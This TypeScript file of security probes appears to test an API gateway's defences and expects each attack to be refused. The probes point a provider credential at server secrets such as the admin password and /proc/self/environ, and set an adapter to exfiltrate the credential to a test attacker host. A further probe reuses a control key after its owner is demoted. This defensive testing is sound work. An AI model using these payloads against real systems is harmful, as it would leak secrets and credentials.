import type { TAttack, TProbeContext } from "./attacks";
import { errorCode, request, type TAnswer } from "./http";

/**
 * Issue 35 items 1 and 2, as the reviewer tried them: an admin (or a control key) pointing a
 * provider's credential at the server's own secrets and its adapter at the attacker's host, and a
 * control key that outlived its creator's role.
 */
const json = { "content-type": "application/json" };
const seen = (a: TAnswer) => `${a.status}${errorCode(a) ? ` ${errorCode(a)}` : ""}`;
const asUser = (ctx: TProbeContext, cookie: string) => ({ ...json, origin: ctx.base, cookie });

const SERVER_SECRETS = ["env:DATABASE_URL", "env:SWITCHYARD_AUDIT_KEY", "env:SWITCHYARD_ADMIN_PASSWORD", "file:/proc/self/environ"];

/** A bundle that points llm_openai's credential at `ref`, from the instance's own export. */
async function bundlePointing(ctx: TProbeContext, headers: Record<string, string>, ref: string): Promise<string | null> {
  const exported = await request(ctx.base, "/api/control/export", { headers });
  if (exported.status !== 200 || !exported.body.includes("env:OPENAI_API_KEY")) return null;
  return exported.body.replace("env:OPENAI_API_KEY", ref);
}

async function signInAs(ctx: TProbeContext, email: string, password: string): Promise<string> {
  const a = await request(ctx.base, "/api/auth/login", { headers: { ...json, origin: ctx.base }, body: JSON.stringify({ email, password }) });
  const raw = a.headers["set-cookie"];
  return ((Array.isArray(raw) ? raw : [raw ?? ""]).find((c) => c.startsWith("sy_session=")) ?? "").split(";")[0] ?? "";
}

export const SECRET_ATTACKS: readonly TAttack[] = [
  {
    item: "35.1",
    attack: "admin PATCHes llm_openai credentialRef to env:DATABASE_URL, env:SWITCHYARD_AUDIT_KEY, env:SWITCHYARD_ADMIN_PASSWORD, file:/proc/self/environ",
    expected: "422 naming credentialRef, each",
    async run(ctx) {
      const headers = asUser(ctx, await ctx.cookieOf("admin"));
      const answers: string[] = [];
      let ok = true;
      for (const ref of SERVER_SECRETS) {
        const a = await request(ctx.base, "/api/control/catalog/providers/llm_openai", {
          method: "PATCH",
          headers,
          body: JSON.stringify({ credentialRef: ref }),
        });
        const names = a.status === 422 && a.body.includes('"path":"credentialRef"');
        ok &&= names;
        answers.push(`${ref} ${seen(a)}`);
      }
      return { observed: answers.join("; "), ok };
    },
  },
  {
    item: "35.1",
    attack: "admin PUTs llm_openai's adapter at the attacker's https host with Bearer {{credential}} in a header and the body, then execute",
    expected: "202 held for a second person (or refused); the attacker receives nothing",
    async run(ctx) {
      ctx.attacker.clear();
      const headers = asUser(ctx, await ctx.cookieOf("admin"));
      const adapter = {
        kind: "http_json",
        baseUrl: ctx.attacker.url,
        options: { path: "/collect", headers: { authorization: "Bearer {{credential}}" }, body: { stolen: "{{credential}}" } },
      };
      const put = await request(ctx.base, "/api/control/catalog/providers/llm_openai/adapter", { method: "PUT", headers, body: JSON.stringify(adapter) });
      const literal = await request(ctx.base, "/api/control/catalog/providers/llm_openai/adapter", {
        method: "PUT",
        headers,
        body: JSON.stringify({ ...adapter, options: { headers: { "x-api-key": "sk_live_probe0123456789abcdef" } } }),
      });
      const execute = await request(ctx.base, "/api/v1/execute/LLM_CHAT", {
        headers: { ...json, authorization: `Bearer ${ctx.apiKey}` },
        body: JSON.stringify({ region: "EU", input: { messages: [{ role: "user", content: "probe" }] } }),
      });
      const reached = ctx.attacker.requests.length;
      const withPassword = ctx.attacker.received(ctx.users.admin.password).length;
      return {
        observed: `adapter PUT ${seen(put)}; literal x-api-key ${seen(literal)}; execute ${seen(execute)}; attacker received ${reached} requests (${withPassword} with the admin password)`,
        ok: (put.status === 202 || put.status === 422) && literal.status === 422 && reached === 0,
      };
    },
  },
  {
    item: "35.1",
    attack: "POST /api/control/apply (the CLI's path) with a bundle pointing llm_openai's credential at env:SWITCHYARD_ADMIN_PASSWORD",
    expected: "422 naming providers[llm_openai].credentialRef",
    async run(ctx) {
      const headers = asUser(ctx, await ctx.cookieOf("admin"));
      const bundle = await bundlePointing(ctx, headers, "env:SWITCHYARD_ADMIN_PASSWORD");
      if (!bundle) return { observed: "could not export a bundle naming env:OPENAI_API_KEY", ok: false };
      const a = await request(ctx.base, "/api/control/apply", { headers: { ...headers, "content-type": "application/yaml" }, body: bundle });
      return { observed: seen(a), ok: a.status === 422 && a.body.includes("providers[llm_openai].credentialRef") };
    },
  },
  {
    item: "35.2",
    attack: "an admin creates a control key, is demoted to viewer, and the key applies a bundle pointing a credential at env:SWITCHYARD_ADMIN_PASSWORD",
    expected: "403 once demoted (export still 200: narrowed to viewer); 401 once disabled",
    async run(ctx) {
      const admin = asUser(ctx, await ctx.cookieOf("admin"));
      const email = `probe-keyowner-${Date.now()}@probe.test`;
      const password = `owner-${ctx.users.admin.password}`;
      const created = await request(ctx.base, "/api/control/users", {
        headers: admin,
        body: JSON.stringify({ email, name: "Key owner", password, roles: ["admin"] }),
      });
      const made = JSON.parse(created.body) as { user?: { id: string }; pendingGrant?: { id: string } | null };
      if (!made.user) return { observed: `create: ${seen(created)}`, ok: false };
      if (made.pendingGrant)
        await request(ctx.base, `/api/control/users/grants/${made.pendingGrant.id}/confirm`, {
          headers: asUser(ctx, await ctx.cookieOf("admin2")),
          body: "{}",
        });
      const owner = asUser(ctx, await signInAs(ctx, email, password));
      const keyAnswer = await request(ctx.base, "/api/control/api-keys", { headers: owner, body: JSON.stringify({ name: "cli", scopes: ["control"] }) });
      const key = (JSON.parse(keyAnswer.body) as { key?: string }).key;
      if (!key) return { observed: `key: ${seen(keyAnswer)}`, ok: false };
      const viaKey = { ...json, authorization: `Bearer ${key}` };
      const bundle = await bundlePointing(ctx, viaKey, "env:SWITCHYARD_ADMIN_PASSWORD");
      if (!bundle) return { observed: "the key could not export a bundle", ok: false };
      await request(ctx.base, `/api/control/users/${made.user.id}/roles`, { method: "PUT", headers: admin, body: JSON.stringify({ roles: ["viewer"] }) });
      const applied = await request(ctx.base, "/api/control/apply", { headers: { ...viaKey, "content-type": "application/yaml" }, body: bundle });
      const read = await request(ctx.base, "/api/control/export", { headers: viaKey });
      await request(ctx.base, `/api/control/users/${made.user.id}/disable`, { headers: admin, body: "{}" });
      const disabled = await request(ctx.base, "/api/control/export", { headers: viaKey });
      return {
        observed: `demoted: apply ${seen(applied)}, export ${read.status}; disabled: export ${seen(disabled)}`,
        ok: applied.status === 403 && read.status === 200 && disabled.status === 401,
      };
    },
  },
];
